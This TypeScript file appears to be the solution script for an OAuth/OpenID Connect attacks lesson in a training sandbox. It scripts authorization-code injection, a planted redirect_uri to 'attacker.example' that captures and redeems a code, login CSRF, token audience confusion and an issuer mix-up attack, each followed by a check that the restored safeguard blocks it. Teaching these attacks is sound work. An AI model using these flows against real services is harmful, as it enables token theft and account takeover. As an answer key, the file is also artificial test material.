import { equal, match, rejects } from 'node:assert/strict'
import type { Browser, Page } from '../support/browser.ts'
import { authorizationRequest, responseOf } from '../support/code-flow.ts'
import type { Learner } from './learner.ts'
import { untilHeld } from './release-held.ts'
import { readTokens } from './read-tokens.ts'
import type { Solution } from './solution.ts'

const planted = 'https://attacker.example/callback'
const api = '/resserver/protected-resources/'

/** Signs somebody in at the web client; the callback is what the browser would open next. */
async function callbackOf({ base }: Learner, window: Browser, user = 'developer'): Promise<URL> {
  const callback = `${base}/client/application/callback`
  let page = await window.open(`${base}/client/application/login`, { stopAt: callback })
  if (page.text.includes('name="password"')) {
    page = await window.submit(page, { login: user, password: 'test' }, { stopAt: callback })
  }
  if (page.text.includes('value="allow"')) {
    page = await window.submit(
      page,
      { scope: ['openid', 'profile', 'my/scope'], answer: 'allow' },
      { stopAt: callback },
    )
  }
  return page.leaves!
}

/** The lesson drops what the browser opens. */
async function lose(learner: Learner, window: Browser, user?: string): Promise<URL> {
  const callback = await callbackOf(learner, window, user)
  await rejects(window.open(callback))
  return callback
}

/** Brings a lost code into a sign-in of the attacker's own. */
async function bring(learner: Learner, lost: URL): Promise<Page> {
  const { base, privateWindow } = learner
  const window = privateWindow()
  const { leaves } = await window.open(`${base}/client/application/login`, {
    stopAt: `${base}/authserver/oauth2/authorize`,
  })
  const mine = new URL(lost)
  mine.searchParams.set('state', leaves!.searchParams.get('state')!)
  await window.open(leaves!)
  return window.open(mine)
}

async function stolenCode(learner: Learner) {
  const { control, browser, done } = learner
  await control.policy.waive('pkce.verifier-matches', 'authserver')
  const first = await lose(learner, browser)
  await done(1)
  match((await bring(learner, first)).text, /id-token\.nonce/)
  await done(2)
  await control.policy.waive('id-token.nonce', 'client')
  const second = await lose(learner, browser)
  await done(3)
  await bring(learner, first)
  await learner.missing(
    4,
    /^That code was used in .*so the refusal is `code\.unused`\. It says nothing/,
  )
  match((await bring(learner, second)).text, /Signed in as Dana Developer/)
  await done(4)
  await control.policy.restore('pkce.verifier-matches')
  await control.policy.restore('id-token.nonce')
  const third = await lose(learner, browser)
  await done(5)
  equal((await bring(learner, third)).status >= 400, true)
  await done(6)
}

async function plantedRedirect(learner: Learner) {
  const { control, browser, done, post, call } = learner
  await control.policy.waive('redirect-uri.registered', 'authserver')
  const spa = await learner.client('spa')
  const { url, verifier } = authorizationRequest(learner, spa, {
    redirect_uri: planted,
    scope: 'openid profile my/scope',
  })
  const taken = responseOf(await browser.open(url))
  await done(7)
  const { body } = await post('/authserver/oauth2/token', {
    grant_type: 'authorization_code',
    client_id: spa.client_id,
    redirect_uri: planted,
    code: taken['code']!,
    code_verifier: verifier,
  })
  await call(api, String(body['access_token']))
  await done(8)
  await control.policy.restore('redirect-uri.registered')
  equal((await browser.open(url)).status, 400)
  await done(9)
}

async function forgedSignIn(learner: Learner) {
  const { control, done, privateWindow } = learner
  await control.policy.waive('state.this-browser', 'client')
  const first = await lose(learner, privateWindow(), 'attacker')
  await done(10)
  match((await privateWindow().open(first)).text, /Signed in as Attacker/)
  await done(11)
  await control.policy.restore('state.this-browser')
  const second = await lose(learner, privateWindow(), 'attacker')
  await done(12)
  equal((await privateWindow().open(second)).status, 403)
  await done(13)
}

async function otherAudience(learner: Learner) {
  const { control, done, call, administer } = learner
  const path = 'resserver/admin/api/configuration'
  const { body } = await administer('GET', path)
  await administer('PUT', path, { ...body, verification: 'jwt' })
  await control.policy.waive('token.audience', 'resserver')
  const configuration = 'client/admin/api/client-configurations/default'
  const { body: before } = await administer('GET', configuration)
  const { name, clientName, server, grantTypes, registersItself } = before
  const document = { name, clientName, server, grantTypes, registersItself }
  const resource = 'https://other.example/api'
  equal((await administer('PUT', configuration, { ...document, resource })).status, 200)
  await learner.signIn()
  await done(14)
  const { access_token } = await readTokens(learner)
  equal((await call(api, access_token)).status, 200)
  await done(15)
  await control.policy.restore('token.audience')
  equal((await call(api, access_token)).status, 401)
  await administer('PUT', path, body)
  await administer('PUT', configuration, document)
  await done(16)
}

async function mixedUpIssuer(learner: Learner) {
  const { control, done, administer, client, issuer, base } = learner
  const { values } = await secondOf(learner)
  const definitions = 'client/admin/api/server-definitions'
  const { body: known } = await administer('POST', definitions, { issuer: values.issuer2 })
  const configurations = 'client/admin/api/client-configurations'
  const { body: made } = await administer('POST', configurations, {
    name: 'at the attacker',
    clientName: 'client-name',
    server: known['id'],
    scope: 'openid my/scope',
  })
  await administer('POST', `${configurations}/${String(made['id'])}/registration`)
  const application = 'client/admin/api/applications/web'
  await administer('PUT', application, { configuration: made['id'] })
  await control.policy.waive('authorization-response.issuer', 'client')
  const { client_id } = await client('simple-web-page')
  const other = control.in(values.base2)
  await other.interventions.create({
    match: { role: 'authserver', message: 'authorization request' },
    do: { hold: true },
  })
  const goThere = async () => {
    const window = learner.privateWindow()
    const asked = await window.open(`${base}/client/application/login`, { stopAt: values.base2 })
    const honest = new URL(asked.leaves!)
    const there = window.open(asked.leaves!)
    const { exchange } = await untilHeld({ control: other })
    const location = `${issuer}/authorize?${honest.searchParams}`.replace(
      honest.searchParams.get('client_id')!,
      client_id,
    )
    const answer = { status: 302, headers: { location } }
    await other.interventions.release({ exchange, do: { answer } })
    const page = await there
    const signedIn = await window.submit(page, { login: 'developer', password: 'test' })
    return signedIn.text.includes('value="allow"')
      ? window.submit(signedIn, { scope: ['openid', 'my/scope'], answer: 'allow' })
      : signedIn
  }
  await goThere()
  await done(17)
  await control.policy.restore('authorization-response.issuer')
  await goThere()
  await done(18)
}

/** What the lesson told of the second sandbox. */
async function secondOf({ control }: Learner) {
  const { steps } = await control.lessons.read('attacks')
  const { address } = steps[16]!.places.find(({ name }) => name.startsWith('The attacker'))!
  const base2 = address.replace(/\/$/, '')
  return { values: { base2, issuer2: `${base2}/authserver/oauth2` } }
}

export const attacks: Solution = {
  async solve(learner) {
    await stolenCode(learner)
    await plantedRedirect(learner)
    await forgedSignIn(learner)
    await otherAudience(learner)
    await mixedUpIssuer(learner)
  },
  blunders: [],
}
